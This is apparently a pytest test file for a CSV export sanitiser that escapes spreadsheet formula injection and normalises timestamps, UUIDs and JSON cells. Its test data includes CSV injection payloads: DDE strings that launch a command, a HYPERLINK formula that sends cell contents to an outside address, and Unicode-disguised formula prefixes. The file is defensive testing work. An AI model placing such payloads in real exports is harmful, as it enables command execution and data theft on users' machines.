"""Cells: what a spreadsheet would run is neutralised, everything else comes back as it was."""

from __future__ import annotations

import csv
import io
import re
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ipadmin.audit.export import cells

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\tx",
    "\rx",
    "  =1",
    "\u00a0=1",
    "\u3000-1",
    "\ufeff=1",
    "\u200b@x",
    "\x0b-cmd|' /C calc'!A0",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\ufe661",
    "\u22121",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
]
HARMLESS = [
    "",
    "web-01.example.net",
    "1-2",
    "a=b",
    "user@example.net",
    "a, b and c",
    'He said "no"',
    "Blocklisted; taking a fresh one",
    "one\ntwo",
    "one\r\ntwo",
    "Zürich, 日本, 🦊",
    "'=1",
    "2001:db8::1",
]
# A sign in its place at the beginning of what some spreadsheet takes for a cell.
RUNS = re.compile(r"(?:^\s*|[;\t\r\n][\s\"]*)[=+@\uff1d\uff0b\uff0d\uff20-]")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    [[kept]] = read(cells.cell(text))
    assert kept.startswith("'")
    assert kept.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("x;=cmd()", "x;'=cmd()"),
        ("x; @y", "x;' @y"),
        ("x\t-1", "x\t'-1"),
        ("x\n=1", "x\n'=1"),
        ('";=1', "\";'=1"),
        ('a;"=1"', 'a;\'"=1"'),
        ('a; ""\t"@x', 'a;\' ""\t\'"@x'),
        ('a\n"-1', "a\n'\"-1"),
    ],
)
def test_nor_where_a_semicolon_ends_a_cell(text: str, kept: str) -> None:
    assert read(cells.cell(text)) == [[kept]]


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert read(cells.lines([["x"], [cells.cell(text)]])) == [["x", text]]


def test_nothing_is_quoted_without_need() -> None:
    assert cells.cell("web-01") == "web-01"


def test_no_nul_is_left() -> None:
    assert cells.cell("a\x00b") == "a\ufffdb"


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=1))
def test_a_column_is_its_cells(column: list[str]) -> None:
    """The look at the whole column overlooks nothing."""
    assert list(cells.texts(column)) == [cells.cell(text) for text in column]


@given(st.lists(st.text(alphabet='=+-@;,"\t\r\n \x00ab\uff1d\u00fc'), min_size=1, max_size=5))
def test_no_column_runs(column: list[str]) -> None:
    rows = read(cells.lines([["x"] * len(column), cells.texts(column)]))
    assert len(rows) == len(column)
    for (_first, kept), text in zip(rows, column, strict=True):
        assert not RUNS.search(kept)
        assert kept.replace("'", "") == text.replace("\x00", "\ufffd")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # SQLite's, then PostgreSQL's, which ends a fraction at its last digit that is not zero.
        ("2026-01-02 03:04:05.678901", "2026-01-02T03:04:05.678Z"),
        ("2026-01-02 03:04:05", "2026-01-02T03:04:05.000Z"),
        ("2026-01-02 03:04:05.678901+00", "2026-01-02T03:04:05.678Z"),
        ("2026-01-02 03:04:05.678+00", "2026-01-02T03:04:05.678Z"),
        ("2026-01-02 03:04:05.6+00", "2026-01-02T03:04:05.600Z"),
        ("2026-01-02 03:04:05+00", "2026-01-02T03:04:05.000Z"),
        (None, ""),
    ],
)
def test_moments(text: str | None, shown: str) -> None:
    assert cells.moments([text]) == [shown]


def test_uuids_of_both_databases() -> None:
    id = UUID(int=1)
    assert list(cells.uuids([id.hex])) == list(cells.uuids([str(id)])) == [str(id)]


def test_numbers_stay_numbers() -> None:
    assert cells.numbers([-1, 0.25, None]) == ["-1", "0.25", ""]


CMD = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("shape", [cells.moments, cells.uuids, cells.numbers, cells.documents])
@pytest.mark.parametrize("text", [CMD, f"{CMD:36}", f"{CMD:26}", f"{CMD:32}", "a,b\n", "infinity"])
def test_what_is_not_what_belongs_there_is_a_text(shape: cells.Shape, text: str) -> None:
    """Whatever stands beside it."""
    assert [*shape([text])] == [*shape([text, text])][:1] == [cells.cell(text)]


def test_one_of_these_leaves_the_others_as_they_are() -> None:
    moment, id = "2026-01-02 03:04:05.678901", UUID(int=1)
    assert cells.moments([moment, CMD])[0] == cells.moments([moment])[0]
    assert list(cells.uuids([id.hex, CMD])) == list(cells.uuids([str(id), CMD]))
    assert cells.moments(["2026-13-02 03:04:05"]) == ["2026-13-02 03:04:05"]


def test_documents_are_json_and_nothing_when_empty() -> None:
    shaped = cells.documents(["{}", "[]", '{"b": "\\u00fc", "a": ";=1"}'])
    assert [read(text) for text in shaped] == [[], [], [['{"a":";\'=1","b":"ü"}']]]
